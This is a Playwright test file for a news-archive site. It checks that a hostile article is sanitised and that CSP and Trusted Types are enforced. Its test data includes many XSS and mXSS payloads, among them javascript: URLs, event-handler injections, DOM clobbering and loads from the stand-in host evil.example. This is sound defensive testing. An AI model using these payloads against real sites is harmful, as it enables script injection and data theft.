/// <reference types="trusted-types" />
import type { Page } from '@playwright/test';
import { checkManifest, checkPack } from '#core/bundle/check.ts';
import { filePath, manifestPath } from '#core/bundle/file-name.ts';
import { articlePage } from './support/article-page.ts';
import { headlines, kindsTitle } from './support/kinds.ts';
import { listPage } from './support/list-page.ts';
import { permalink } from './support/permalink.ts';
import { expect, test } from './support/test.ts';

/** What a script of an archived page would have left behind. */
const pwned = (page: Page) => page.evaluate(() => 'pwned' in window);

/** Elements that a body may not have, or that the page has once. They are looked for by name: most of them have no role. */
const forbidden = 'script, style, link, iframe, frame, object, embed, form, input, button, select, textarea, svg, math, meta, base, template, video, audio, marquee, dialog';

/** What must hold of the page whatever its article is made of. */
async function expectUntouched(page: Page): Promise<void> {
  const { article, headline, body } = articlePage(page);
  await expect(headline).toHaveText(headlines.hostile);
  await expect(body).toContainText('The first paragraph is harmless.');
  await expect(body).toContainText('The last paragraph is harmless as well.');
  await expect(body.locator(forbidden)).toHaveCount(0);
  await expect(body.locator('[style], [role]:not(.wide), [data-id], [tabindex]:not(.wide), [autofocus], [class]:not(.picture-waiting, .wide)')).toHaveCount(0);
  await expect(page.locator('#root')).toHaveCount(1);
  await expect(page.locator('#article-title')).toHaveCount(1);
  await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1);
  await expect(page.getByRole('banner')).toHaveCount(0);
  await expect(page.getByRole('textbox')).toHaveCount(0);
  await expect(article.getByRole('button', { name: 'Sign in' })).toHaveCount(0);

  const handlers = await body.evaluate((element) => [...element.querySelectorAll('*')].flatMap((one) => one.getAttributeNames()).filter((name) => name.startsWith('on')));
  expect(handlers).toEqual([]);
  const addresses = await body.evaluate((element) => [...element.querySelectorAll('a[href]')].map((link) => link.getAttribute('href')));
  expect(addresses.filter((address) => !/^(https?:\/\/|#user-content-)/.test(address ?? ''))).toEqual([]);
  // What runs late (a picture that fails, a frame that loads) has had its time once the network is quiet.
  await page.waitForLoadState('networkidle');
  expect(await pwned(page)).toBe(false);
}

test.describe('a hostile article', () => {
  test('runs nothing, asks nobody and is taken for nothing else', async ({ page, sites }) => {
    const address = await permalink(sites.kinds, headlines.hostile);
    await page.goto(address);
    await expectUntouched(page);
    await expect(page).toHaveURL(address);
    await expect(articlePage(page).article).toContainText('<script>window.pwned = 1</script>Nobody');
    await expect(articlePage(page).archivedCopy).toHaveCount(0);
    await articlePage(page).article.getByText('Unfolded').click();
    await articlePage(page).body.getByText('The last paragraph').hover();
    expect(await pwned(page)).toBe(false);
  });

  test('is harmless in the list, in its own window and beside another article', async ({ page, sites }) => {
    await page.goto(`${sites.kinds}?from=2017&to=2017`);
    const list = listPage(page);
    await expect(list.links).toHaveText([headlines.typesetter, headlines.hostile]);
    await list.link(headlines.typesetter).click();
    await expect(articlePage(page).asideLinks).toHaveText([headlines.typesetter, headlines.hostile]);
    await articlePage(page).neighbour(headlines.hostile).click();
    await expectUntouched(page);
    await expect(page).toHaveTitle(`${headlines.hostile} · Delta Wire · ${kindsTitle}`);
  });

  test('with addresses of other kinds in its header is refused whole', async ({ page, sites }) => {
    await page.route('**/archive/packs/*.json', async (route) => {
      const response = await route.fetch();
      const { articles } = checkPack(await response.json());
      await route.fulfill({ json: { articles: articles.map((article) => ({ ...article, original: 'javascript:window.pwned=1' })) } });
    });
    await page.goto(await permalink(sites.kinds, headlines.hostile));
    await expect(page.getByRole('alert')).toContainText('breaks the format');
    await expect(page.getByRole('link', { name: 'Read the original' })).toHaveCount(0);
  });
});

test.describe('a hostile article that no importer has seen', () => {
  // The browser reports what its policy holds back while the body is still in the sanitiser's document, where nothing runs anyway.
  test.use({ expectedErrors: [/content security policy/i] });

  test('runs nothing, asks nobody and is taken for nothing else', async ({ page, sites }) => {
    const body = `
      <p>The first paragraph is harmless.</p>
      <script>window.pwned = 1</script><script src="https://evil.example/pwn.js"></script>
      <img src=x onerror="window.pwned = 1"><img src="data:image/svg+xml,<svg onload=alert(1)>">
      <img src="files/../../../pwn.png"><img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">
      <picture><source srcset="https://evil.example/c.png"><img src="//evil.example/d.png"></picture>
      <svg onload="window.pwned = 1"><use href="https://evil.example/sprite.svg#x"></use><animate onbegin="window.pwned = 1" attributeName="x"></animate></svg>
      <svg><style><a id="</style><img src=x onerror=window.pwned=1>"></a></style></svg>
      <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">
      </table></mtext></math>
      <form id="x"><input name="attributes"><input name="childNodes"></form>
      <a href="javascript:window.pwned=1">a</a><a href="&#x6A;avascript&colon;window.pwned=1">b</a><a href=" vbscript:x">c</a>
      <a href="/a/000000000000/fake">d</a><a href="?q=x">e</a><a href="//evil.example">f</a><a href="https://evil.example/g" ping="https://evil.example/ping" target="_self">g</a>
      <a name="getElementById">h</a><a id="root" name="root">i</a><p id="article-title" class="article" role="article">j</p>
      <iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><iframe src="javascript:parent.pwned=1"></iframe>
      <object data="data:text/html,<script>parent.pwned=1</script>"></object><embed src="https://evil.example/embed">
      <video autoplay poster="https://evil.example/poster.png"><source onerror="window.pwned = 1"></video><audio src="https://evil.example/sound.mp3" autoplay></audio>
      <style>body { display: none } @import "https://evil.example/style.css";</style><link rel="stylesheet" href="https://evil.example/link.css"><link rel="preload" as="image" href="https://evil.example/preload.png">
      <meta http-equiv="refresh" content="0; url=https://evil.example/refresh"><base href="https://evil.example/">
      <div style="position: fixed; inset: 0; background: url(https://evil.example/cover.png)" contenteditable tabindex="1" accesskey="s">k</div>
      <table background="https://evil.example/table.png"><tr><td background="https://evil.example/cell.png">l</td></tr></table>
      <details open ontoggle="window.pwned = 1"><summary autofocus onfocus="window.pwned = 1" tabindex="0">m</summary>n</details>
      <dialog open>o</dialog><marquee onstart="window.pwned = 1">p</marquee><input type="image" src="https://evil.example/input.png" formaction="javascript:window.pwned=1">
      <custom-element onclick="window.pwned = 1">q</custom-element><template shadowrootmode="open"><script>window.pwned = 1</script></template>
      <p>The last paragraph is harmless as well.</p>`;
    await page.route('**/archive/packs/*.json', async (route) => {
      const response = await route.fetch();
      const { articles } = checkPack(await response.json());
      await route.fulfill({ json: { articles: articles.map((article) => (article.title === headlines.hostile ? { ...article, body } : article)) } });
    });
    const address = await permalink(sites.kinds, headlines.hostile);
    await page.goto(address);
    await expectUntouched(page);
    await expect(page).toHaveURL(address);
    await expect(articlePage(page).body.getByRole('link')).toHaveText(['g']);
    await expect(articlePage(page).body.getByRole('link')).toHaveAttribute('rel', /\bnoopener\b.*\bnoreferrer\b/);
    await expect(articlePage(page).body.getByRole('link')).not.toHaveAttribute('ping');
  });
});

test.describe('the page', () => {
  test('is under a strict policy, by its header and by itself', async ({ page, sites }) => {
    for (const site of [sites.shipped, sites.kinds, sites['under-base']]) {
      const response = await page.goto(site);
      const header = response?.headers()['content-security-policy'] ?? '';
      // A meta element has no role.
      const meta = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
      for (const policy of [header, meta]) {
        expect(policy).toContain("default-src 'none'");
        expect(policy).toContain("script-src 'self';");
        expect(policy).toContain("style-src 'self';");
        expect(policy).toContain("connect-src 'self';");
        expect(policy).toContain("base-uri 'none'");
        expect(policy).toContain("form-action 'none'");
        expect(policy).toContain("require-trusted-types-for 'script'");
        expect(policy).not.toMatch(/unsafe|\*|data:|blob:/);
      }
      expect(header).toContain("frame-ancestors 'none'");
      expect(header.replace("frame-ancestors 'none'; ", '')).toBe(meta);
    }
  });

  test('of the shipped archive names no other host', async ({ page, sites }) => {
    const response = await page.goto(sites.shipped);
    expect(response?.headers()['content-security-policy']).not.toMatch(/https?:/);
  });

  test('of an archive names the hosts of its pictures for pictures only', async ({ page, sites }) => {
    const response = await page.goto(sites.kinds);
    const directives = (response?.headers()['content-security-policy'] ?? '').split('; ').filter((directive) => /https?:/.test(directive));
    expect(directives).toEqual([expect.stringMatching(/^img-src 'self' .*https:\/\/pictures\.example/)]);
  });

  test('has no script and no style inside', async ({ page, sites }) => {
    for (const address of [sites.kinds, await permalink(sites.kinds, headlines.rules)]) {
      await page.goto(address);
      await expect(page.getByRole('main')).toContainText(/\d articles|Rules of the Sound/);
      // Neither has a role.
      await expect(page.locator('script:not([src]), style, [style]')).toHaveCount(0);
    }
  });

  test('tells nobody where a reader came from', async ({ page, sites }) => {
    const response = await page.goto(sites.kinds);
    expect(response?.headers()).toMatchObject({ 'referrer-policy': 'no-referrer', 'x-content-type-options': 'nosniff' });
    expect(await page.context().cookies()).toEqual([]);
  });
});

test.describe('the browser', () => {
  test.use({ expectedErrors: [/TrustedHTML|TrustedScript|content security policy/i] });

  test('lets no text become markup or code', async ({ page, sites }) => {
    await page.goto(await permalink(sites.kinds, headlines.rules));
    await expect(articlePage(page).headline).toBeVisible();
    const attempts = await page.evaluate(() => {
      const attempt = (act: () => unknown): string => {
        try {
          act();
          return 'done';
        } catch (error) {
          return error instanceof Error ? error.name : 'thrown';
        }
      };
      return [
        attempt(() => (document.createElement('div').innerHTML = '<img src="x">')),
        attempt(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
        attempt(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
        attempt(() => (document.createElement('script').text = 'window.pwned = 1')),
        attempt(() => window.trustedTypes?.createPolicy('mine', { createHTML: (text) => text })),
      ];
    });
    expect(attempts).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError', 'TypeError']);
    await page.evaluate(() => {
      const script = document.createElement('div');
      script.setAttribute('onclick', 'window.pwned = 1');
      script.click();
    }).catch(() => undefined);
    expect(await pwned(page)).toBe(false);
  });
});

test('the manifest is asked for anew and what is named by its content is kept', async ({ request, sites }) => {
  const manifest = await request.get(sites.kinds + manifestPath);
  expect(manifest.headers()['cache-control']).toBe('no-cache');
  const { rows } = checkManifest(await manifest.json());
  const file = await request.get(sites.kinds + filePath('rows', rows[0]![0]));
  expect(file.headers()['cache-control']).toContain('immutable');
});
